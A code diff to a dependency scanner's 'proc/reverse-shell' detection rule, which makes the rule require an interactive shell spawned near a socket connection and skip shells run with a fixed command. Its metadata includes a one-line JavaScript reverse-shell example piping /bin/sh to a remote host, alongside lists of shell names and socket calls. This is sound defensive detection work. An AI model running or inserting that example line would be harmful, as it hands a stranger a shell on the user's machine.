@@ -4,10 +4,12 @@ package proc
 import (
 	"context"
 	"fmt"
+	"regexp"
 	"strings"
 
 	"github.com/depfence/depfence/internal/analyze"
 	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/jsast"
 	"github.com/depfence/depfence/internal/rules/rulekit"
 )
 
@@ -110,9 +112,11 @@ type ReverseShell struct{}
 // Meta implements analyze.Rule.
 func (ReverseShell) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "proc/reverse-shell", Version: 1, Title: "Opens a reverse shell",
+		ID: "proc/reverse-shell", Version: 2, Title: "Opens a reverse shell",
 		Help: "One file opens a raw TCP connection and starts a shell (sh, bash, cmd.exe, PowerShell) whose input and output are piped to it. " +
-			"That hands an interactive shell on your machine to whoever listens at the other end.",
+			"That hands an interactive shell on your machine to whoever listens at the other end. Counted when the shell is interactive (not told to run " +
+			"one fixed command with -c or -Command) and started near the connection: bundles that happen to contain a socket client and a " +
+			"powershell -Command helper are not reverse shells.",
 		Remediation:     "Remove the package and treat the machine as compromised if it ran.",
 		Example:         `const s = net.connect(4444, "203.0.113.5", () => { const sh = spawn("/bin/sh"); s.pipe(sh.stdin); sh.stdout.pipe(s) })`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
@@ -125,26 +129,34 @@ var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "/bin/sh": t
 // Check implements analyze.Rule.
 func (ReverseShell) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
 	for _, f := range rulekit.Code(ctx, t) {
-		sock := false
+		var socks []jsast.Pos
 		for _, c := range f.Facts.Calls {
 			switch c.Callee {
 			case "net.Socket", "net.connect", "net.createConnection", "tls.connect":
-				sock = true
+				socks = append(socks, c.Pos)
 			}
 		}
-		if !sock {
+		if len(socks) == 0 {
 			continue
 		}
 		for _, c := range f.Facts.Calls {
 			if !rulekit.IsSpawn(c) {
 				continue
 			}
-			if cmd := rulekit.SpawnCommand(c); shells[strings.ToLower(strings.Fields(cmd + " x")[0])] {
-				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceHigh,
-					Message: fmt.Sprintf("connects a raw socket and spawns %q", cmd), Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
-				break
+			cmd := rulekit.SpawnCommand(c)
+			// A reverse shell hands the socket an interactive shell, next
+			// to the connection; a shell told to run one fixed command
+			// (powershell -Command "Get-CimInstance ...") is a tool.
+			if !shells[strings.ToLower(strings.Fields(cmd + " x")[0])] || fixedCommand.MatchString(cmd) || !rulekit.Near(c.Pos, socks) {
+				continue
 			}
+			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceHigh,
+				Message: fmt.Sprintf("connects a raw socket and spawns %q", cmd), Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
+			break
 		}
 	}
 	return nil
 }
+
+// fixedCommand matches shell flags that run a given command and exit.
+var fixedCommand = regexp.MustCompile(`(?i)\s(-c|/c|-command|-encodedcommand|-file)\s+\S`)
